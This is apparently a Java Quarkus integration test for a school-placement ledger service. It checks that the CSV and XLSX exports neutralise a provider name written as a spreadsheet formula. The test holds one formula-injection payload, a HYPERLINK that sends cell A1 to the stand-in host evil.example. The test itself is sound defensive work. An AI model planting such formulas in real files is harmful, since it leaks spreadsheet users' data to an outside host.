package uk.send.placement.ledger.rest;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import uk.send.devstack.DevTokens;
import uk.send.devstack.DevstackTestResource;
import uk.send.placement.ledger.domain.AcademicYear;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * A provider name typed as a spreadsheet formula (OWASP "CSV injection") comes out of the DfE place change request
 * as text: quoted in the CSV, a plain string cell in the XLSX, while the place numbers, a negative change included,
 * are exactly as before.
 */
@QuarkusTest
@QuarkusTestResource(value = DevstackTestResource.class, initArgs = @ResourceArg(name = "database", value = "placement"))
class SpreadsheetFormulaExportTest {

    private static final String EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    private final String la = "SF" + UUID.randomUUID().toString().substring(0, 8);
    private final String commissioner = DevTokens.mint(la, "commissioner@" + la + ".gov.uk", "commissioner");

    @Test
    void shouldExportAFormulaLikeProviderNameAsTextAndANegativeChangeAsItIs() throws IOException {
        String provider = given().auth().oauth2(commissioner).contentType(ContentType.JSON)
                .body(Map.of("name", EVIL, "type", "SPECIAL_SCHOOL", "needTypes", List.of("ASD"), "urn", "654321", "establishmentTypeCode", 7))
                .post("/api/v1/providers").then().statusCode(201).extract().path("id");
        AcademicYear year = AcademicYear.of(LocalDate.now());
        given().auth().oauth2(commissioner).contentType(ContentType.JSON).body(Map.of("places", 40, "requested", 36))
                .put("/api/v1/ledger/" + provider + "/" + year.startYear() + "/ASD").then().statusCode(201);

        String csv = given().auth().oauth2(commissioner).queryParam("academicYear", year.startYear()).queryParam("format", "csv")
                .get("/api/v1/ledger/place-change-request").then().statusCode(200).extract().asString();
        assertThat(csv.lines().toList()).containsExactly("URN,UKPRN,Provider,Places " + year.label() + ",Requested " + year.next().label() + ",Change",
                "654321,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",40,36,-4");

        byte[] xlsx = given().auth().oauth2(commissioner).queryParam("academicYear", year.startYear()).queryParam("format", "xlsx")
                .get("/api/v1/ledger/place-change-request").then().statusCode(200).extract().asByteArray();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            Row row = wb.getFirstSheet().read().get(1);
            assertThat(row.getCell(2).getType()).isEqualTo(CellType.STRING);
            assertThat(row.getCell(2).getText()).isEqualTo(EVIL);
            assertThat(row.getCell(5).getType()).isEqualTo(CellType.NUMBER);
            assertThat(row.getCell(5).asNumber()).isEqualByComparingTo("-4");
        }
        assertThat(sheetXml(xlsx)).doesNotContain("<f>", "<f ");
    }

    private static String sheetXml(byte[] xlsx) throws IOException {
        Path file = Files.createTempFile("place-change-request", ".xlsx");
        try (ZipFile zip = new ZipFile(Files.write(file, xlsx).toFile())) {
            ZipEntry sheet = zip.stream().filter(e -> e.getName().startsWith("xl/worksheets/")).findFirst().orElseThrow();
            return new String(zip.getInputStream(sheet).readAllBytes(), StandardCharsets.UTF_8);
        } finally {
            Files.delete(file);
        }
    }
}
